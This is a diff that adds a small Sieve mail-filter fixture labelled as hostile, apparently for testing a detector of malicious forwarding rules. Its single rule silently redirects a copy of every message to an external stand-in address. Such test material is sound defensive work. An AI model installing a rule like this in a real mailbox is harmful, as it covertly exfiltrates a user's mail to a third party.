@@ -1,0 +1,5 @@
+# about: a copy of everything leaves
+# class: hostile
+# expect: everything forwards-external
+require ["copy"];
+redirect :copy "mirror.box77@mailfree.example";
